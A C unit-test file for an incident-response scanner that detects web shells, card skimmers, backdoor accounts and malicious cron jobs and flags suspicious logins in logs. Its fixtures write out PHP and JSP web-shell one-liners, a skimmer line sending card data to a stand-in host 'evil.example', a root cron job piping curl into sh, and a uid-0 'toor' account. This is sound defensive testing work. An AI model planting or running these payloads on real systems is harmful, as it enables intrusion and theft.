/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What an intruder left is found where it lies, what was published is not
 * called a web shell, and what could not be searched is not called clean.
 */
#include <string.h>
#include <time.h>

#include "baseline/publish.h"
#include "base/fault.h"
#include "base/json.h"
#include "control/moments.h"
#include "tree.h"

/* Publishes the document root as it is. */
static void publish(struct tree *t)
{
    char dir[160], path[256], root[160];
    struct hb_key *key = NULL;
    struct hb_pub *pub = NULL;
    struct hb_published done;
    struct hb_err err = {0};
    int base;

    (void)snprintf(dir, sizeof(dir), "%s/base", t->path);
    assert_int_equal(hb_mkdirs(dir, 0755), 0);
    (void)snprintf(path, sizeof(path), "%s/hb/keys/publish.pub", t->path);
    put(t, "/hb/keys/x", "", 0644);
    assert_int_equal(hb_key_generate(&key), 0);
    assert_int_equal(hb_pub_save(key, path, &err), 0);
    assert_int_equal(hb_key_pub(key, &pub), 0);
    base = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    assert_true(base >= 0);
    (void)snprintf(root, sizeof(root), "%s/srv/www", t->path);
    {
        struct hb_publish how = {.basedir = base,
                                 .site = "www",
                                 .tree = root,
                                 .pub = pub,
                                 .key = key,
                                 .threads = 1};

        assert_int_equal(hb_publish(&how, &done, &err), 0);
    }
    (void)close(base);
    hb_key_free(key);
    hb_pub_free(pub);
}

static struct hb_json *search(struct tree *t, const struct hb_accounts *before)
{
    struct hb_buf b = HB_BUF_INIT;
    struct hb_json *tree = NULL;
    char base[160], etc[160];

    (void)snprintf(base, sizeof(base), "%s/base", t->path);
    (void)snprintf(etc, sizeof(etc), "%s/hb", t->path);
    assert_int_equal(hb_aftermath(&t->m, &t->site, base, etc, before, &b), 0);
    assert_int_equal(hb_json_parse(t->m.arena, hb_buf_slice(&b), &tree, NULL),
                     0);
    hb_buf_done(&b);
    return tree;
}

static bool tells(const struct hb_json *tree, const char *kind,
                  const char *words)
{
    const struct hb_json *moments = hb_json_get(tree, "moments");

    assert_non_null(moments);
    HB_JSON_EACH (m, moments) {
        const struct hb_json *args = hb_json_get(m, "args");

        assert_non_null(args);
        if (hb_streq(hb_json_str(m, "kind", ""), kind) && args->first != NULL &&
            strstr(args->first->str.p, words) != NULL)
            return true;
    }
    return false;
}

static void test_signs(void **state)
{
    static const struct {
        const char *name, *text;
        bool shell;
    } rows[] = {
        {"a.php", "<?php @eval ( base64_decode('x'));", true},
        {"a.php", "<?php system(\n $_GET['c']);", true},
        {"a.php", "<?php assert($_POST[1]);", true},
        {"a.php", "<?php preg_replace('/.*/e', $x, '');", true},
        {"a.php", "<?php `$_GET[c]`;", true},
        {"C99.php", "", true},
        {"photo.jpg", "\xff\xd8 <?php echo 1;", true},
        {"a.jsp", "Runtime.getRuntime().exec(request.getParameter(\"c\"))",
         true},
        {"a.php", "<?php echo base64_decode('x'); ?>", false},
        {"a.html", "<p>system call, eval, assert</p>", false},
        {"a.php", "", false},
    };

    (void)state;
    for (size_t i = 0; i < HB_ARRAY_LEN(rows); i++)
        assert_int_equal(
            hb_shell_sign(rows[i].name, hb_slice_z(rows[i].text)) != NULL,
            rows[i].shell);
}

/* A sign that lies across the pieces that are looked at one by one. */
static void test_sign_at_every_place(void **state)
{
    static const char sign[] = "eval(base64_decode";
    char *text = malloc(20000);

    (void)state;
    assert_non_null(text);
    for (size_t at = 4050; at < 4110; at++) {
        memset(text, 'x', 20000);
        memcpy(text + at, sign, sizeof(sign) - 1);
        assert_non_null(hb_shell_sign("a.php", hb_slice(text, 20000)));
    }
    free(text);
}

static void test_leftovers(void **state)
{
    struct hb_accounts before;
    struct hb_json *got;
    struct tree t;

    (void)state;
    tree_open(&t);
    put(&t, "/srv/www/index.html", "<h1>x</h1>", 0644);
    put(&t, "/srv/www/own.php", "<?php eval(base64_decode('own')); ?>", 0644);
    publish(&t);
    assert_int_equal(hb_accounts_read(&t.m, &before), 0);
    got = search(&t, &before);
    assert_int_equal(hb_json_int(got, "__leftovers__", -1), 0);
    assert_false(hb_json_bool(got, "__skimming__", true));
    assert_true(tells(got, "search.clean", "web shells"));
    assert_true(tells(got, "search.clean", "accounts"));

    put(&t, "/srv/www/upload/photo.php.jpg", "GIF89a<?php system($_GET[0]);",
        0644);
    put(&t, "/srv/www/.htaccess", "AddType x .jpg\n", 0644);
    put(&t, "/srv/www/pay.js", "fetch('https://evil.example/', {body: card})",
        0644);
    got = search(&t, &before);
    assert_int_equal(hb_json_int(got, "__leftovers__", -1), 3);
    assert_true(hb_json_bool(got, "__skimming__", false));
    assert_true(tells(got, "search.hit", "upload/photo.php.jpg"));
    assert_true(tells(got, "search.hit", ".htaccess"));
    assert_true(tells(got, "search.hit", "pay.js"));
    assert_false(tells(got, "search.clean", "web shells"));

    put(&t, "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n"
        "www-data:x:33:33:www:/var/www:/bin/sh\n"
        "hanako:x:1000:1000:Hanako:/home/hanako:/bin/bash\n"
        "toor:x:0:0::/:/bin/sh\n",
        0644);
    put(&t, "/etc/cron.d/job", "* * * * * root curl x | sh\n", 0644);
    got = search(&t, &before);
    assert_true(tells(got, "search.hit", "toor"));
    assert_true(tells(got, "search.hit", "www-data"));
    assert_true(tells(got, "search.hit", "/etc/cron.d/job"));
    tree_done(&t);
}

static void test_unsearched_is_not_clean(void **state)
{
    struct hb_accounts before = {0};
    struct hb_json *got;
    struct tree t;

    (void)state;
    tree_open(&t);
    got = search(&t, &before); /* there is no document root */
    assert_false(tells(got, "search.clean", "web shells"));
    assert_true(tells(got, "incident.note", "document root"));
    assert_true(tells(got, "incident.note", "accounts"));
    tree_done(&t);
}

static void test_many_are_bounded(void **state)
{
    struct hb_accounts before;
    const struct hb_json *moments;
    struct hb_json *got;
    struct tree t;

    (void)state;
    tree_open(&t);
    for (int i = 0; i < 60; i++) {
        char name[64];

        (void)snprintf(name, sizeof(name), "/srv/www/%d\xff.php", i);
        put(&t, name, "<?php eval($_POST[1]);", 0644);
    }
    assert_int_equal(hb_accounts_read(&t.m, &before), 0);
    got = search(&t, &before);
    moments = hb_json_get(got, "moments");
    assert_int_equal(hb_json_int(got, "__leftovers__", -1), 60);
    assert_in_range(moments->count, 1, HB_MOMENTS_MAX);
    tree_done(&t);
}

/* Sixty decoys do not keep an account and a timed job out of sight. */
static void test_decoys(void **state)
{
    struct hb_accounts before;
    struct hb_json *got;
    struct tree t;

    (void)state;
    tree_open(&t);
    for (int i = 0; i < 60; i++) {
        char name[64];

        (void)snprintf(name, sizeof(name), "/srv/www/%d.php", i);
        put(&t, name, "<?php eval($_POST[1]);", 0644);
    }
    assert_int_equal(hb_accounts_read(&t.m, &before), 0);
    put(&t, "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n"
        "www-data:x:33:33:www:/var/www:/usr/sbin/nologin\n"
        "hanako:x:1000:1000:Hanako:/home/hanako:/bin/bash\n"
        "toor:x:0:0::/:/bin/sh\n",
        0644);
    put(&t, "/etc/cron.d/job", "* * * * * root curl x | sh\n", 0644);
    got = search(&t, &before);
    assert_true(tells(got, "search.hit", "toor"));
    assert_true(tells(got, "search.hit", "/etc/cron.d/job"));
    HB_JSON_EACH (m, hb_json_get(got, "moments"))
        if (hb_streq(hb_json_str(m, "kind", ""), "search.left"))
            assert_int_equal(
                hb_json_int(hb_json_get(m, "args"), "count", 0) + 30, 60);
    assert_int_equal(hb_json_int(got, "__leftovers__", -1), 63);
    tree_done(&t);
}

/* What lies behind the first megabyte: all of a script, the end of others. */
static void test_large_files(void **state)
{
    static const char *const names[] = {"/srv/www/a.php", "/srv/www/b.jpg"};
    struct hb_accounts before;
    struct hb_json *got;
    struct tree t;

    (void)state;
    tree_open(&t);
    assert_int_equal(hb_accounts_read(&t.m, &before), 0);
    for (size_t i = 0; i < HB_ARRAY_LEN(names); i++) {
        char full[256];
        int fd;

        put(&t, names[i], "x", 0644);
        (void)snprintf(full, sizeof(full), "%s%s", t.path, names[i]);
        fd = open(full, O_WRONLY);
        assert_true(fd >= 0);
        assert_int_equal(ftruncate(fd, 5 << 20), 0);
        /* Across two pieces that are read one after the other. */
        assert_int_equal(
            hb_pwrite_all(fd, "<?php eval($_POST[1]); ?>", 25,
                          i == 0 ? (1 << 20) - 12 : (5 << 20) - 40),
            0);
        (void)close(fd);
    }
    got = search(&t, &before);
    assert_true(tells(got, "search.hit", "a.php"));
    assert_true(tells(got, "search.hit", "b.jpg"));
    tree_done(&t);
}

/* Whichever allocation fails: an answer that is JSON, or an error. */
static void test_memory(void **state)
{
    struct hb_buf b = HB_BUF_INIT;
    char base[160], etc[160];
    struct hb_accounts before;
    struct hb_arena *kept;
    struct tree t;
    unsigned n = 0;
    bool through;

    (void)state;
    tree_open(&t);
    put(&t, "/srv/www/index.html", "<h1>x</h1>", 0644);
    publish(&t);
    for (int i = 0; i < 40; i++) {
        char name[64];

        (void)snprintf(name, sizeof(name), "/srv/www/%d.php", i);
        put(&t, name, "<?php eval($_POST[1]);", 0644);
    }
    (void)snprintf(base, sizeof(base), "%s/base", t.path);
    (void)snprintf(etc, sizeof(etc), "%s/hb", t.path);
    assert_int_equal(hb_accounts_read(&t.m, &before), 0);
    kept = t.m.arena;
    do {
        struct hb_json *tree = NULL;
        int r;

        t.m.arena = hb_arena_new(0);
        hb_fault_set(HB_FAULT_ALLOC, ++n);
        r = hb_aftermath(&t.m, &t.site, base, etc, &before, &b);
        through = hb_fault_pending(HB_FAULT_ALLOC);
        hb_fault_set(HB_FAULT_ALLOC, 0);
        if (r == 0)
            assert_int_equal(
                hb_json_parse(t.m.arena, hb_buf_slice(&b), &tree, NULL), 0);
        hb_buf_done(&b);
        hb_buf_init(&b, 0);
        hb_arena_free(t.m.arena);
    } while (!through && n < 10000);
    assert_true(through);
    t.m.arena = kept;
    hb_buf_done(&b);
    tree_done(&t);
}

static void login(struct tree *t, const char *user, int64_t at)
{
    char record[384] = {7}, path[256];
    uint32_t s = (uint32_t)(at / (int64_t)HB_S);
    int fd;

    memcpy(record + 8, "pts/0", 5);
    memcpy(record + 44, user, strlen(user));
    memcpy(record + 76, "192.0.2.7", 9);
    memcpy(record + 340, &s, sizeof(s));
    put(t, "/var/log/.x", "", 0644);
    (void)snprintf(path, sizeof(path), "%s/var/log/wtmp", t->path);
    fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
    assert_int_equal(hb_write_all(fd, record, sizeof(record)), 0);
    (void)close(fd);
}

static void test_collect(void **state)
{
    struct hb_buf b = HB_BUF_INIT;
    struct hb_json *got;
    char line[512], when[64];
    time_t now = time(NULL);
    struct tm tm;
    struct tree t;

    (void)state;
    tree_open(&t);
    /* Nothing to be read is a failure, not an empty answer. */
    assert_true(hb_collect(&t.m, &t.site, NULL, 0, &b) < 0);
    hb_buf_reset(&b);
    login(&t, "mallory", t.m.now - 60 * (int64_t)HB_S);
    login(&t, "old", t.m.now - 86400 * 3 * (int64_t)HB_S);
    put(&t, "/etc/nginx/nginx.conf",
        "http { server { access_log /var/log/w/a.log combined; } }\n", 0644);
    localtime_r(&now, &tm);
    (void)strftime(when, sizeof(when), "%b %e %H:%M:%S", &tm);
    (void)snprintf(line, sizeof(line),
                   "%s w sshd[7]: Accepted password for eve from 192.0.2.7 "
                   "port 1 ssh2\n%s w sudo:  eve : TTY=a ; PWD=/ ; USER=root ;"
                   " COMMAND=/bin/sh\n",
                   when, when);
    put(&t, "/var/log/auth.log", line, 0640);
    login(&t, "eve", t.m.now);
    gmtime_r(&now, &tm);
    (void)strftime(when, sizeof(when), "%d/%b/%Y:%H:%M:%S +0000", &tm);
    (void)snprintf(line, sizeof(line),
                   "192.0.2.1 - - [%s] \"GET /a HTTP/1.1\" 200 1\n"
                   "192.0.2.9 - - [%s] \"POST /up.php HTTP/1.1\" 200 1\n"
                   "192.0.2.9 - - [01/Jan/2001:00:00:00 +0000] \"POST /o "
                   "HTTP/1.1\" 200 1\n[[[\"POST \n",
                   when, when);
    put(&t, "/var/log/w/a.log", line, 0644);
    assert_int_equal(hb_collect(&t.m, &t.site, NULL, 0, &b), 0);
    assert_int_equal(hb_json_parse(t.m.arena, hb_buf_slice(&b), &got, NULL), 0);
    assert_true(tells(got, "cause.login", "mallory"));
    assert_false(tells(got, "cause.login", "old"));
    assert_true(tells(got, "cause.login", "eve (sshd, password) 192.0.2.7"));
    assert_true(tells(got, "cause.login", "eve -> /bin/sh (sudo)"));
    assert_false(tells(got, "cause.login", "eve (pts")); /* told already */
    assert_true(tells(got, "cause.web", "POST /up.php"));
    assert_false(tells(got, "cause.web", "GET /a"));
    assert_false(tells(got, "cause.web", "POST /o "));
    assert_true(tells(got, "incident.note", "programs"));
    hb_buf_done(&b);
    tree_done(&t);
}

static void test_utmp(void **state)
{
    char two[2 * 384] = {0};
    struct hb_login l[1];

    (void)state;
    for (int i = 0; i < 2; i++) {
        two[i * 384] = 7;
        two[i * 384 + 44] = i == 0 ? 'a' : '\x1b';
        memset(two + i * 384 + 76, 'h', 256); /* without an end */
        two[i * 384 + 340] = (char)(10 + i);
    }
    assert_int_equal(
        hb_utmp_read(hb_slice(two, sizeof(two)), 0, INT64_MAX, 1, l), 1);
    assert_string_equal(l[0].user, "?"); /* the newest */
    assert_int_equal(strlen(l[0].host), 256);
    assert_int_equal(l[0].at, 11 * (int64_t)HB_S);
    assert_int_equal(
        hb_utmp_read(hb_slice(two, sizeof(two)), 0, 10 * (int64_t)HB_S, 1, l),
        1);
    assert_int_equal(l[0].at, 10 * (int64_t)HB_S); /* not after it */
    assert_int_equal(hb_utmp_read(hb_slice(two, 383), 0, INT64_MAX, 1, l), 0);
    assert_int_equal(
        hb_utmp_read(hb_slice(two, sizeof(two)), 0, INT64_MAX, 0, l), 0);
    assert_int_equal(hb_lastlog(hb_slice(two, 291), 0), 0);
    assert_int_equal(hb_lastlog(hb_slice(two, sizeof(two)), UINT32_MAX), 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_signs),
        cmocka_unit_test(test_sign_at_every_place),
        cmocka_unit_test(test_leftovers),
        cmocka_unit_test(test_unsearched_is_not_clean),
        cmocka_unit_test(test_many_are_bounded),
        cmocka_unit_test(test_decoys),
        cmocka_unit_test(test_memory),
        cmocka_unit_test(test_large_files),
        cmocka_unit_test(test_collect),
        cmocka_unit_test(test_utmp),
    };

    return hb_tap_run("control/search", tests);
}
